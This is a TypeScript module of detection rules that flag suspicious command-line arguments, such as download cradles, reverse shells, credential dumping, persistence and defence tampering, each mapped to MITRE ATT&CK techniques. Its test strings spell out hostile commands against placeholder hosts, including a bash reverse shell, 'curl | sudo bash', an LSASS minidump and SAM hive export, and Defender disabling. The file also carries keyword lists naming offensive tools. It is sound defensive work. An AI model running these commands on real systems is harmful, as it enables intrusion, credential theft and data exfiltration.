/**
 * Something that arguments do, told from their text. A rule holds when one of its words occurs and its pattern matches;
 * both ignore case. Rules of the user have the same form.
 */
export interface BehaviourRule {
  /** Lower-case letters, digits, hyphens. */
  readonly id: string;
  readonly name: string;
  /** Techniques of MITRE ATT&CK, e.g. `T1105`. */
  readonly attack: readonly string[];
  /** One of these must occur, each of three characters or more: they are looked for in the bytes, before any pattern. */
  readonly words: readonly string[];
  /** In RE2's syntax, which is linear in the length of the text; a dot also matches line breaks. '' where words say it all. */
  readonly pattern: string;
  /** Arguments that the rule must find, and ones that it must not. */
  readonly hits: readonly string[];
  readonly misses: readonly string[];
}

/** The rule that arguments keep by hiding something, whatever it is; see `decode.ts`. */
export const encodedId = 'encoded';

const fetchers = String.raw`(?:download(?:string|file|data)|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|\bcurl\b|\bwget\b|https?://)`;

/** The rules that exist from the start. Technique ids are those of ATT&CK for Enterprise, version 17. */
export const defaultRules: readonly BehaviourRule[] = [
  {
    id: 'download-cradle',
    name: 'Download cradle',
    attack: ['T1105', 'T1059.001'],
    words: ['downloadstring', 'downloadfile', 'downloaddata', 'invoke-webrequest', 'iwr ', 'invoke-restmethod', 'irm ', 'net.webclient', 'start-bitstransfer', 'xmlhttp', 'winhttprequest', 'urlopen', 'urlretrieve', 'requests.get'],
    pattern: String.raw`\.download(?:string|file|data)\b|(?:^|[\s;|&({"'])(?:invoke-webrequest|iwr|invoke-restmethod|irm|start-bitstransfer)\s|net\.webclient|\bxmlhttp\b|winhttprequest|\burlopen\(|\burlretrieve\(|requests\.get\(`,
    hits: ["(New-Object Net.WebClient).DownloadFile('http://a.example/x','x')", 'iwr -Uri https://a.example/x.ps1 -OutFile x.ps1', 'python -c "import urllib.request as u;u.urlretrieve(1)"'],
    misses: ['-File download.ps1', 'Get-Help Invoke-WebRequestHelper', 'firm -x'],
  },
  {
    id: 'remote-script',
    name: 'Remote script run',
    attack: ['T1059', 'T1105'],
    words: ['iex', 'invoke-expression', 'curl', 'wget', 'mshta', '/i:http', '/i:"http', 'scriptblock'],
    pattern: String.raw`(?:\biex\b|invoke-expression|scriptblock\]::create).*${fetchers}|${fetchers}.*[|;&]\s*(?:iex\b|invoke-expression)|(?:curl|wget)\b.*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|mshta(?:\.exe)?["']?\s+["']?https?:|/i:["']?https?:`,
    hits: ["IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", 'irm https://a.example/x | iex', 'curl -fsSL https://a.example/i.sh | sudo bash', 'regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll'],
    misses: ['iex (Get-Content .\\x.ps1)', 'curl https://a.example/x -o x', 'cat x.sh | bash'],
  },
  {
    id: encodedId,
    name: 'Encoded or broken up',
    attack: ['T1027.010', 'T1140'],
    words: ['frombase64string', 'base64 -d', 'base64 --decode', 'b64decode', 'atob(', '-bxor', 'gzipstream', 'deflatestream'],
    pattern: '',
    hits: ["[Convert]::FromBase64String('abc')", 'echo x | base64 -d'],
    misses: ['-Encoding utf8', 'base64 file.bin'],
  },
  {
    id: 'hidden',
    name: 'Hidden window or policy bypassed',
    attack: ['T1564.003', 'T1059.001'],
    words: ['hidden', '-w h', '-w 1', '/w h', '-wi h', '-win h', '-win 1', 'bypass', 'unrestricted'],
    pattern: String.raw`[-/\x{2013}-\x{2015}]w(?:i(?:n(?:d(?:o(?:w(?:s(?:t(?:y(?:l(?:e)?)?)?)?)?)?)?)?)?)?[\s:]+["']?(?:h(?:i(?:dden)?)?\b|1\b)|windowstyle\s*=\s*["']?hidden|[-/\x{2013}-\x{2015}](?:ep|ex(?:ec(?:utionpolicy)?)?|exe[a-z]*)[\s:]+["']?(?:bypass|unrestricted)\b`,
    hits: ['-w hidden -c x', '-WindowStyle Hidden', '-ep bypass -File x.ps1', '\u2013ExecutionPolicy Bypass'],
    misses: ['-w 100', 'show hidden files', '--proxy-bypass-list=x', '-ExecutionPolicy RemoteSigned'],
  },
  {
    id: 'defences-off',
    name: 'Defences switched off',
    attack: ['T1562.001', 'T1562.004', 'T1070.001'],
    words: ['amsiutils', 'amsiinitfailed', 'amsicontext', 'mppreference', 'disablerealtime', 'firewall set', 'wevtutil cl', 'clear-eventlog'],
    pattern: String.raw`amsi(?:utils|initfailed|context)|(?:set|add)-mppreference\b.*(?:-disable|-exclusion)|firewall\s+set\b.*\boff\b|wevtutil\s+cl\b|clear-eventlog`,
    hits: ['Set-MpPreference -DisableRealtimeMonitoring $true', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"],
    misses: ['Get-MpPreference', 'Set-MpPreference -ScanScheduleDay 1'],
  },
  {
    id: 'in-memory',
    name: 'Code loaded in memory',
    attack: ['T1620', 'T1055'],
    words: ['assembly]::load', 'reflection.assembly', 'virtualalloc', 'createthread', 'getdelegateforfunctionpointer'],
    pattern: String.raw`assembly\]::load(?:file|from)?\b|virtualalloc|create(?:remote)?thread|getdelegateforfunctionpointer`,
    hits: ['[System.Reflection.Assembly]::Load($bytes)', '$k::VirtualAlloc(0,1024,0x3000,0x40)'],
    misses: ['[Reflection.Assembly]::GetExecutingAssembly()'],
  },
  {
    id: 'staging',
    name: 'Data collected into an archive',
    attack: ['T1560.001', 'T1074.001'],
    words: ['compress-archive', 'createfromdirectory', 'makecab', 'rar ', 'rar.exe', '7z ', '7za ', '7z.exe', '7za.exe', 'tar ', 'zip '],
    pattern: String.raw`compress-archive|zipfile\]::createfromdirectory|\bmakecab\b|\brar(?:\.exe)?["']?\s+a\s|\b7za?(?:\.exe)?["']?\s+a\s|\btar\s+-?[a-z]*c[a-z]*f\s|\bzip\s+-r\b`,
    hits: ['Compress-Archive -Path C:\\data -DestinationPath C:\\Temp\\d.zip', 'rar.exe a -hp1 out.rar docs', 'tar czf /tmp/x.tgz /etc'],
    misses: ['Expand-Archive x.zip', 'tar xzf x.tgz', 'library a '],
  },
  {
    id: 'upload',
    name: 'Upload',
    attack: ['T1041', 'T1567'],
    words: ['uploadstring', 'uploadfile', 'uploaddata', 'uploadvalues', 'post', '-infile', '--upload-file', '--data', '--form', 'curl', 'rclone', 'method put'],
    pattern: String.raw`\.upload(?:string|file|data|values)\b|-method[\s:]+["']?(?:post|put)\b|-infile\s|curl\b.*\s(?:--upload-file|--data(?:-[a-z]+)?|--form|-x\s*(?:post|put)|(?-i:-[TFd]))\s|wget\b.*--post-|requests\.(?:post|put)\(|\brclone\b.*\b(?:copy|sync|move)\s`,
    hits: ['Invoke-RestMethod -Uri https://a.example -Method Post -InFile x.zip', "(New-Object Net.WebClient).UploadString('https://a.example', $d)", 'curl -s -F file=@/etc/passwd https://a.example'],
    misses: ['Invoke-RestMethod -Uri https://a.example -Method Get', 'curl -fsSL https://a.example', '--postpone'],
  },
  {
    id: 'web-hook',
    name: 'Web hook or chat bot',
    attack: ['T1567.004', 'T1102'],
    words: ['/api/webhooks', 'hooks.slack.com', 'webhook.site', 'api.telegram.org', '/webhookb2/', 'webhook.office.com'],
    pattern: '',
    hits: ['irm https://discord.com/api/webhooks/1/abc -Method Post', 'https://api.telegram.org/bot1:x/sendDocument'],
    misses: ['https://discord.com/app', 'https://telegram.org/'],
  },
  {
    id: 'dns-channel',
    name: 'Data through DNS',
    attack: ['T1071.004', 'T1048.003'],
    words: ['nslookup', 'resolve-dnsname', 'dnscat', 'iodine', 'dig '],
    pattern: String.raw`nslookup\b.*-(?:q|ty|type|querytype|query)=txt|resolve-dnsname\b.*-type\s+["']?txt|\bdnscat|\biodine\b|\bdig\b.*\btxt\b`,
    hits: ['nslookup -q=txt a.example', 'Resolve-DnsName -Name a.example -Type TXT'],
    misses: ['nslookup a.example', 'Resolve-DnsName a.example -Type A'],
  },
  {
    id: 'persistence',
    name: 'Persistence',
    attack: ['T1053.005', 'T1053.003', 'T1547.001', 'T1543', 'T1546.003', 'T1098.004'],
    words: ['schtasks', 'register-scheduledtask', 'currentversion\\run', 'new-service', 'sc create', 'sc.exe create', 'start menu\\programs\\startup', 'crontab', 'launchctl', '__eventfilter', 'systemctl enable', 'authorized_keys'],
    pattern: String.raw`schtasks(?:\.exe)?["']?\s.*/create|register-scheduledtask|currentversion\\run|new-service\b|\bsc(?:\.exe)?\s+create\b|programs\\startup|crontab\s+(?:-\s|-$|[^-\s])|\|\s*crontab|launchctl\s+(?:load|bootstrap)|__eventfilter|systemctl\s+enable|>>\s*\S*authorized_keys`,
    hits: ['schtasks /create /sc onlogon /tn x /tr x.exe', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x', 'echo x | crontab -'],
    misses: ['schtasks /query', 'crontab -l', 'Get-ScheduledTask'],
  },
  {
    id: 'discovery',
    name: 'Discovery',
    attack: ['T1082', 'T1033', 'T1087', 'T1069', 'T1482', 'T1016'],
    words: ['whoami', 'systeminfo', 'net user', 'net group', 'net localgroup', 'net view', 'net1 ', 'nltest', 'ipconfig', 'quser', 'get-aduser', 'get-adcomputer', 'get-adgroup', 'get-netdomain', 'arp -a', 'net.exe '],
    pattern: String.raw`\bwhoami\b|\bsysteminfo\b|\bnet1?(?:\.exe)?\s+(?:user|group|localgroup|view)\b|\bnltest\b|ipconfig(?:\.exe)?\s*/all|\bquser\b|get-ad(?:user|computer|group)\b|get-netdomain|\barp\s+-a`,
    hits: ['cmd /c whoami /all', 'net group "Domain Admins" /domain', 'ipconfig /all'],
    misses: ['ipconfig /flushdns', 'net use x:', 'netuser.exe'],
  },
  {
    id: 'credentials',
    name: 'Credentials taken',
    attack: ['T1003', 'T1555'],
    words: ['ntdsutil', 'sekurlsa', 'lsass', 'comsvcs', 'ntds.dit', 'reg save', 'login data', 'cmdkey'],
    pattern: String.raw`sekurlsa|\blsass|comsvcs(?:\.dll)?\b.*minidump|ntds\.dit|ntdsutil\b.*\bifm\b|reg(?:\.exe)?\s+save\s+["']?hk(?:lm|ey_local_machine)\\(?:sam|security|system)\b|\\login data\b|cmdkey\s+/list`,
    hits: ['rundll32 comsvcs.dll, MiniDump 624 x.dmp full', 'reg save HKLM\\SAM sam.hiv', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'],
    misses: ['reg save HKCU\\Console x', 'classassets'],
  },
  {
    id: 'lol-download',
    name: 'Download by a tool of the system',
    attack: ['T1105', 'T1218', 'T1197'],
    words: ['certutil', '-urlcache', '/urlcache', 'verifyctl', 'bitsadmin', '/transfer', 'mshta', 'javascript:', 'regsvr32', 'msiexec', 'desktopimgdownldr', 'mpcmdrun', 'installutil', 'certreq', 'davwwwroot', 'esentutl', 'ieexec', 'cmstp', 'http'],
    pattern: String.raw`[-/](?:urlcache|verifyctl)\b|certutil\b.*https?:|bitsadmin\b.*/(?:transfer|addfile)|/transfer\s.*https?:|mshta\b.*(?:https?|javascript|vbscript):|rundll32\b.*(?:javascript|https?):|regsvr32\b.*https?:|msiexec\b.*https?:|[-/]i\s+["']?https?://\S+\.msi\b|desktopimgdownldr|mpcmdrun\b.*-downloadfile|installutil\b.*https?:|certreq\b.*-post|davwwwroot|esentutl\b.*\\\\|ieexec\b.*https?:|cmstp\b.*https?:|\bhh(?:\.exe)?\s+https?:`,
    hits: ['certutil -urlcache -split -f http://a.example/x x', 'bitsadmin /transfer j http://a.example/x C:\\x', 'msiexec /q /i https://a.example/x.msi', 'javascript:"\\..\\mshtml,RunHTMLApplication " mshta javascript:x'],
    misses: ['certutil -hashfile x SHA256', 'msiexec /i C:\\x.msi', 'https://a.example/x'],
  },
  {
    id: 'reverse-shell',
    name: 'Reverse shell',
    attack: ['T1059', 'T1095'],
    words: ['net.sockets.tcpclient', '/dev/tcp/', '/dev/udp/', 'nc ', 'ncat', 'nc.exe', 'socket.socket', 'pty.spawn', 'powercat', 'mkfifo', 'bash -i'],
    pattern: String.raw`net\.sockets\.tcpclient|/dev/(?:tcp|udp)/|\bnc(?:at)?(?:\.exe)?\s.*-[a-z]*[ec]\s+\S*(?:sh|cmd|powershell)|socket\.socket.*(?:subprocess|dup2|pty\.spawn)|pty\.spawn|\bpowercat\b|mkfifo\b.*\bnc\b|bash\s+-i\s+>`,
    hits: ["$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444)", 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'nc 192.0.2.1 4444 -e /bin/sh'],
    misses: ['Test-NetConnection -Port 443', 'nc -z a.example 443', 'sync -e x'],
  },
  {
    id: 'offensive-tool',
    name: 'Name of an offensive tool',
    attack: ['T1588.002'],
    words: ['mimikatz', 'powersploit', 'sharphound', 'bloodhound', 'rubeus', 'kerberoast', 'cobaltstrike', 'cobalt strike', 'invoke-obfuscation', 'nishang', 'powerview', 'meterpreter', 'metasploit', 'msfvenom', 'lazagne', 'secretsdump', 'impacket', 'winpeas', 'linpeas', 'powerup.ps1', 'crackmapexec', 'netexec', 'sliver-', 'invoke-shellcode', 'invoke-psinject', 'adrecon', 'seatbelt.exe', 'empireproject', 'evil-winrm', 'ligolo', 'chisel client', 'sharpup', 'invoke-wmicommand', 'invoke-reflectivepeinjection', 'dumpcreds', 'safetykatz'],
    pattern: '',
    hits: ['IEX ...; Invoke-Mimikatz -DumpCreds', 'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/x.ps1'],
    misses: ['-File backup.ps1', 'empire-state.png'],
  },
  {
    id: 'bare-address',
    name: 'Download from a bare address',
    attack: ['T1105', 'T1071.001'],
    words: ['://0', '://1', '://2', '://3', '://4', '://5', '://6', '://7', '://8', '://9'],
    pattern: String.raw`https?://(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?:[/:?\s'")]|$)`,
    hits: ['iwr http://192.0.2.7/x', 'http://192.0.2.7:8080'],
    misses: ['https://1password.com/', 'https://365.example.com/'],
  },
];
